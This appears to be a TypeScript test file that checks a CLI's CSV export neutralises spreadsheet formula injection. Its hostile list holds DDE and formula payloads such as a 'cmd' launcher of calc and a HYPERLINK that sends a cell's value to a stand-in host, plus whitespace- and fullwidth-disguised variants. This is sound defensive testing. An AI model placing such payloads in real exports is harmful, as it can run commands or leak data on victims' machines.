import { csvLine } from '../../src/cli/csv';
import { Desk } from '../support/desk-client';
import { firstline } from '../support/firstline';

/** What people write to make a spreadsheet run something. */
const hostile = [
  '=1+1',
  '=HYPERLINK("https://evil.test?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '","=1+1',
  'a"\r\n"=1+1',
  '";=1+1;"',
];

/** Reads CSV as RFC 4180 has it. */
function cellsOf(csv: string, separator = ','): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < csv.length; at++) {
    const sign = csv[at]!;
    if (isQuoted && sign === '"' && csv[at + 1] === '"') cell += csv[++at]!;
    else if (sign === '"') isQuoted = !isQuoted;
    else if (!isQuoted && sign === separator) {
      rows.at(-1)!.push(cell);
      cell = '';
    } else if (!isQuoted && csv.startsWith('\r\n', at)) {
      rows.at(-1)!.push(cell);
      rows.push([]);
      cell = '';
      at++;
    } else cell += sign;
  }
  return rows.slice(0, -1);
}

test.each(hostile.map(text => [JSON.stringify(text), text] as const))(
  '%s is one cell, and no formula',
  (_shown, text) => {
    for (const separator of [',', ';'] as const) {
      const [row, ...more] = cellsOf(csvLine(['PP-1001', text, 'end'], separator), separator);
      expect(more).toEqual([]);
      expect(row).toHaveLength(3);
      expect(row![1]).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝＋－＠]/u);
      expect(row![1]?.replace(/^'/, '')).toBe(text.replaceAll('\0', ''));
    }
  },
);

test('plain words and figures stay as they are', () => {
  expect(csvLine(['Åsa said "no", twice; really', 4, undefined])).toBe('"Åsa said ""no"", twice; really",4,""\r\n');
});

test('tickets are listed as a table that a spreadsheet can open', async () => {
  const desk = await Desk.start();
  try {
    const { number } = await desk.file({ summary: '=HYPERLINK("https://evil.test","Click")' });
    await desk.file({ summary: 'Blank, "white"' });
    const { stdout } = await firstline(['tickets', '--csv', '--separator', ';'], desk.service.env);
    expect(stdout.startsWith('\uFEFF"number";"state"')).toBe(true);
    const [head, first, second] = cellsOf(stdout.slice(1), ';');
    const summary = head!.indexOf('summary');
    expect(first).toEqual(expect.arrayContaining([number, 'new', 'grid', 'Anna Berg', 'helpdesk']));
    expect(first![summary]).toMatch(/^'=HYPERLINK/);
    expect(second![summary]).toBe('Blank, "white"');
    await expect(firstline(['tickets', '--csv', '--separator', '|'], desk.service.env)).rejects.toMatchObject({
      code: 64,
    });
  } finally {
    await desk.stop();
  }
}, 60_000);
